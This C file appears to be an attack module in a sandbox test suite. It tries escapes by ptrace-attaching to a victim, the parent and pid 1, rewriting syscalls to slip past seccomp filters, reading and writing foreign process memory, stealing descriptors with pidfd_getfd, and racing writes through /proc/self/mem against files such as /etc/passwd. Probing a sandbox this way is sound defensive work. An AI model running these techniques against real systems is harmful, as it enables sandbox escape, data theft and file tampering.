/*
 * Reaching into other processes: the victim outside, nacre's own (parent, pid 1), and memory that
 * is not meant to be written.
 */
#include "attack.h"
#include <elf.h>
#include <linux/filter.h>
#include <linux/kcmp.h>
#include <linux/seccomp.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/user.h>

static pid_t targets[3];
static const char *const target_names[] = {"victim", "parent", "pid 1"};

static void find_targets(void)
{
	targets[0] = (pid_t)world_number("victim");
	targets[1] = getppid();
	targets[2] = 1;
}

/* Without a box the parent is the test and pid 1 the machine's: a signal to stop comes with it, and
 * both would stay stopped. */
static void attach(void)
{
	size_t count = world_number("boxed") ? count_of(targets) : 1;

	find_targets();
	for (size_t i = 0; i < count; i++) {
		errno = 0;
		if (ptrace(PTRACE_ATTACH, targets[i], 0, 0) == 0) {
			got("ptrace attached to %s", target_names[i]);
			waitpid(targets[i], NULL, __WALL); /* what runs cannot be let go */
			ptrace(PTRACE_DETACH, targets[i], 0, 0);
		} else {
			no("ptrace attach");
		}
		if (ptrace(PTRACE_SEIZE, targets[i], 0, 0) == 0) {
			got("ptrace seized %s", target_names[i]);
			ptrace(PTRACE_DETACH, targets[i], 0, 0);
		} else {
			no("ptrace seize");
		}
	}
}

/* A tracer could change the calls of its child after the filter has looked at them. */
static void trace_child(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		if (told("ptrace traceme", ptrace(PTRACE_TRACEME, 0, 0, 0)))
			raise(SIGSTOP);
		_exit(0);
	}
	waitpid(pid, NULL, WUNTRACED);
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
}

/* One child, stopped for its tracer before it goes on to make the call. */
static pid_t start_tracee(void (*go_on)(void), long options)
{
	pid_t pid = fork();
	int status;

	if (pid == 0) {
		if (ptrace(PTRACE_TRACEME, 0, 0, 0) < 0) {
			no("traceme");
			_exit(1);
		}
		raise(SIGSTOP);
		go_on();
		fflush(stdout);
		_exit(0);
	}
	if (pid < 0 || waitpid(pid, &status, 0) < 0 || !WIFSTOPPED(status))
		return -1;
	if (ptrace(PTRACE_SETOPTIONS, pid, 0, options | PTRACE_O_TRACESYSGOOD | PTRACE_O_EXITKILL) <
	    0) {
		no("options of the tracer");
		kill(pid, SIGKILL);
		waitpid(pid, NULL, 0);
		return -1;
	}
	return pid;
}

#if defined(__x86_64__)
#define CALL_OF(r)   (r).orig_rax
#define FIRST_OF(r)  (r).rdi
#define RESULT_OF(r) (r).rax
#elif defined(__aarch64__)
#define CALL_OF(r)   (r).regs[8]
#define FIRST_OF(r)  (r).regs[0]
#define RESULT_OF(r) (r).regs[0]
#endif

static bool set_call(pid_t pid, long from, long to, unsigned long first)
{
	struct user_regs_struct regs;
	struct iovec v = {&regs, sizeof(regs)};

	if (ptrace(PTRACE_GETREGSET, pid, (void *)NT_PRSTATUS, &v) < 0 ||
	    (long)CALL_OF(regs) != from)
		return false;
	CALL_OF(regs) = (unsigned long)to;
	FIRST_OF(regs) = first;
	if (ptrace(PTRACE_SETREGSET, pid, (void *)NT_PRSTATUS, &v) < 0)
		no("setting registers");
#ifdef __aarch64__
	int nr = (int)to;
	struct iovec w = {&nr, sizeof(nr)};
	(void)ptrace(PTRACE_SETREGSET, pid, (void *)NT_ARM_SYSTEM_CALL, &w);
#endif
	return true;
}

static void call_getppid(void)
{
	long r = syscall(SYS_getppid);

	/* A new user namespace, which the filter refuses, answers 0; a parent's number is above. */
	if (r == 0)
		got("a new user namespace by a call that was changed");
	else
		printf("no: the changed call answered %ld, %s\n", r, strerror(errno));
}

/* As the tracee stops before its call: the kernel asks the filter after that. */
static void rewrite_call(void)
{
	pid_t pid = start_tracee(call_getppid, 0);
	int status;

	if (pid < 0)
		return;
	while (ptrace(PTRACE_SYSCALL, pid, 0, 0) == 0 && waitpid(pid, &status, 0) == pid &&
	       WIFSTOPPED(status))
		if (WSTOPSIG(status) == (SIGTRAP | 0x80))
			set_call(pid, SYS_getppid, SYS_unshare, 0x10000000 /* CLONE_NEWUSER */);
	kill(pid, SIGKILL);
}

static void filtered_getppid(void)
{
	struct sock_filter code[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getppid, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_TRACE),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog program = {count_of(code), code};

	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0 ||
	    prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program) < 0)
		no("a filter of its own");
	call_getppid();
}

/* As a filter stops it for its tracer: all filters are asked again after that. */
static void rewrite_behind(void)
{
	pid_t pid = start_tracee(filtered_getppid, PTRACE_O_TRACESECCOMP);
	int status;

	if (pid < 0)
		return;
	while (ptrace(PTRACE_CONT, pid, 0, 0) == 0 && waitpid(pid, &status, 0) == pid &&
	       WIFSTOPPED(status))
		if (status >> 8 == (SIGTRAP | (PTRACE_EVENT_SECCOMP << 8)))
			set_call(pid, SYS_getppid, SYS_unshare, 0x10000000 /* CLONE_NEWUSER */);
	kill(pid, SIGKILL);
}

static void suspend_filter(void)
{
	struct sock_filter code[4096];
	pid_t pid = start_tracee(filtered_getppid, PTRACE_O_SUSPEND_SECCOMP);

	if (pid > 0) {
		got("a suspended filter");
		kill(pid, SIGKILL);
		waitpid(pid, NULL, 0);
	}
	pid = start_tracee(filtered_getppid, 0);
	if (pid > 0 && ptrace(PTRACE_SECCOMP_GET_FILTER, pid, 0, code) >= 0)
		got("the filter itself");
	if (pid > 0) {
		kill(pid, SIGKILL);
		waitpid(pid, NULL, 0);
	}
}

/* All that a debugger has to reach into a process, on each of nacre's that has a number here, and
 * on the victim. */
static void rewrite_order(void)
{
	char text[] = "pwned", path[64];
	struct iovec here = {text, sizeof(text)}, there = {NULL, sizeof(text)};

	find_targets();
	for (size_t i = 0; i < (world_number("boxed") ? count_of(targets) : 1); i++) {
		pid_t pid = targets[i];
		uintptr_t at =
			i == 0 ? strtoul(world("victim_secret"), NULL, 0) : (uintptr_t)&targets;
		int fd;

		there.iov_base = (void *)at;
		if (process_vm_writev(pid, &here, 1, &there, 1, 0) > 0)
			got("process_vm_writev to %s", target_names[i]);
		for (size_t j = 0; j < 2; j++) {
			static const int ways[] = {PTRACE_SEIZE, PTRACE_ATTACH};

			if (ptrace(ways[j], pid, 0, 0) < 0) {
				no("attaching");
				continue;
			}
			got("attached to %s", target_names[i]);
			if (j == 0)
				ptrace(PTRACE_INTERRUPT, pid, 0, 0);
			waitpid(pid, NULL, __WALL);
			ptrace(PTRACE_DETACH, pid, 0, 0);
		}
		if (ptrace(PTRACE_POKEDATA, pid, at, 0) == 0 ||
		    ptrace(PTRACE_CONT, pid, 0, SIGWINCH) == 0)
			got("an untraced process obeyed");
		snprintf(path, sizeof(path), "/proc/%d/mem", pid);
		fd = open(path, O_WRONLY);
		if (fd >= 0 && pwrite(fd, text, sizeof(text), (off_t)at) > 0)
			got("%s written", path);
		snprintf(path, sizeof(path), "/proc/%d/task/%d/mem", pid, pid);
		fd = open(path, O_RDONLY);
		if (fd >= 0)
			got("%s opened", path);
	}
}

static void read_memory(void)
{
	char buf[128] = "";
	struct iovec here = {buf, sizeof(buf) - 1};
	struct iovec there = {(void *)(uintptr_t)strtoul(world("victim_secret"), NULL, 0), 100};
	ssize_t n = process_vm_readv((pid_t)world_number("victim"), &here, 1, &there, 1, 0);

	if (n > 0)
		printf("victim's memory: %s\n", buf);
	else
		no("process_vm_readv");
	/* The parent began as the same program or is a shell: any byte of it is too much. */
	there = (struct iovec){(void *)(uintptr_t)&targets, 8};
	find_targets();
	for (size_t i = 1; i < count_of(targets); i++)
		if (process_vm_readv(targets[i], &here, 1, &there, 1, 0) > 0)
			got("memory of %s", target_names[i]);
}

static void write_memory(void)
{
	char text[] = "pwned";
	struct iovec here = {text, sizeof(text)};
	struct iovec there = {(void *)(uintptr_t)strtoul(world("victim_secret"), NULL, 0),
	                      sizeof(text)};

	if (process_vm_writev((pid_t)world_number("victim"), &here, 1, &there, 1, 0) > 0)
		got("process_vm_writev");
	else
		no("process_vm_writev");
}

static void memory_files(void)
{
	char path[64], buf[128] = "";
	off_t at = (off_t)strtoul(world("victim_secret"), NULL, 0);
	int fd;

	find_targets();
	for (size_t i = 0; i < count_of(targets); i++) {
		snprintf(path, sizeof(path), "/proc/%d/mem", targets[i]);
		fd = open(path, O_RDWR);
		if (!told(path, fd))
			continue;
		if (i == 0 && pread(fd, buf, sizeof(buf) - 1, at) > 0)
			printf("victim's memory: %s\n", buf);
	}
	for (size_t i = 0; i < count_of(targets); i++) {
		for (size_t j = 0; j < 5; j++) {
			static const char *const names[] = {"maps", "auxv", "syscall", "stack",
			                                    "environ"};

			snprintf(path, sizeof(path), "/proc/%d/%s", targets[i], names[j]);
			fd = open(path, O_RDONLY);
			if (fd >= 0 && read(fd, buf, sizeof(buf) - 1) > 0)
				got("%s of %s: %.30s", names[j], target_names[i], buf);
		}
	}
}

static void pidfd_getfd_(void)
{
	find_targets();
	for (size_t i = 0; i < count_of(targets); i++) {
		int pidfd = (int)syscall(SYS_pidfd_open, targets[i], 0);

		if (pidfd < 0) {
			no("pidfd_open");
			continue;
		}
		for (int fd = 0; fd < 32; fd++) {
			int stolen = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);

			if (stolen < 0) {
				if (fd == 0)
					no("pidfd_getfd");
				continue;
			}
			got("descriptor %d of %s", fd, target_names[i]);
			if (i == 0)
				lseek(stolen, 0, SEEK_SET);
			fcntl(stolen, F_SETFL, O_NONBLOCK);
			show_fd(stolen, "stolen");
		}
	}
}

static void descriptors(void)
{
	char path[64], what[256];

	find_targets();
	for (size_t i = 0; i < count_of(targets); i++) {
		for (int fd = 0; fd < 32; fd++) {
			ssize_t n;

			snprintf(path, sizeof(path), "/proc/%d/fd/%d", targets[i], fd);
			n = readlink(path, what, sizeof(what) - 1);
			if (n < 0)
				continue;
			what[n] = 0;
			got("%s -> %s", path, what);
			show(path);
		}
	}
}

static void compare(void)
{
	find_targets();
	for (size_t i = 0; i < count_of(targets); i++)
		told("kcmp", syscall(SYS_kcmp, getpid(), targets[i], KCMP_FILES, 0, 0));
}

/* Writes through /proc/self/mem go past the protection of the mapping; the file must not change. */
static void write_self(void)
{
	const char *paths[] = {world("protected"), "/etc/passwd", "/proc/self/exe", world("beside"),
	                       "/bin/true"};

	for (size_t i = 0; i < count_of(paths); i++) {
		int fd = open(paths[i], O_RDONLY), mem = open("/proc/self/mem", O_RDWR);
		char *map = fd < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
		char *shared = fd < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);

		if (map == MAP_FAILED || mem < 0) {
			no(paths[i]);
			continue;
		}
		for (int turn = 0; turn < 200; turn++) { /* as the race of 2016 did */
			if (pwrite(mem, "pwned", 5, (off_t)(uintptr_t)map) < 0)
				break;
			madvise(map, 4096, MADV_DONTNEED);
		}
		if (pwrite(mem, "pwned", 5, (off_t)(uintptr_t)shared) > 0)
			printf("wrote to a shared mapping of %s\n", paths[i]);
		if (mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) != MAP_FAILED)
			got("a writable mapping of %s", paths[i]);
		if (mprotect(shared, 4096, PROT_READ | PROT_WRITE) == 0)
			got("a mapping of %s made writable", paths[i]);
		close(fd);
		close(mem);
	}
}

static const struct attempt all[] = {
	{"attach", attach},
	{"trace_child", trace_child},
	{"rewrite_call", rewrite_call},
	{"rewrite_behind", rewrite_behind},
	{"suspend_filter", suspend_filter},
	{"rewrite_order", rewrite_order},
	{"read_memory", read_memory},
	{"write_memory", write_memory},
	{"memory_files", memory_files},
	{"pidfd_getfd", pidfd_getfd_},
	{"descriptors", descriptors},
	{"compare", compare},
	{"write_self", write_self},
};

int main(int argc, char **argv)
{
	return attack(argc, argv, all, count_of(all));
}
